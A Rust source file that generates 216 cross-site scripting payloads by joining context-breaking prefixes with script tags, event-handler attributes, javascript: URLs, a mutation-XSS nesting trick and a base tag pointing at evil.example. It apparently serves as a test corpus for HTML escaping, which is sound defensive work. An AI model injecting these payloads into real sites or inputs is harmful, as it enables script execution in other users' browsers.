//! What strangers may write to break out of wherever it lands: 216 texts, each a way out and
//! something that would run.

/// Ways out of a text, an attribute, an element, a comment.
const OUT: [&str; 12] = [
    "",
    "\">",
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</svg>",
    "-->",
    "]]>",
    "\" autofocus ",
    "&quot;&gt;",
    "`}",
];

/// What would run once it is out.
const ACTIVE: [&str; 18] = [
    "<script>window.broken=1</script>",
    "<script src=data:text/javascript,window.broken=1></script>",
    "<img src=x onerror=window.broken=1>",
    "<svg onload=window.broken=1>",
    "<svg><script>window.broken=1</script></svg>",
    "<iframe srcdoc='<script>parent.broken=1</script>'></iframe>",
    "<details open ontoggle=window.broken=1>",
    "<input autofocus onfocus=window.broken=1>",
    "<video><source onerror=window.broken=1></video>",
    "<body onload=window.broken=1>",
    "<a href=javascript:window.broken=1>x</a>",
    "<form action=javascript:window.broken=1><button id=x>x</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.broken=1>",
    "<style>*{display:none!important}</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=data:text/html,x'>",
    "onmouseover=window.broken=1 x=",
    "{{constructor.constructor('window.broken=1')()}}${window.broken=1}",
];

/// All of them.
pub fn payloads() -> Vec<String> {
    let ways = OUT.iter();
    ways.flat_map(|out| ACTIVE.iter().map(move |active| format!("{out}{active}")))
        .collect()
}

#[test]
fn there_are_more_than_two_hundred() {
    let mut all = payloads();
    all.sort();
    all.dedup();
    assert!(all.len() > 200, "{}", all.len());
}
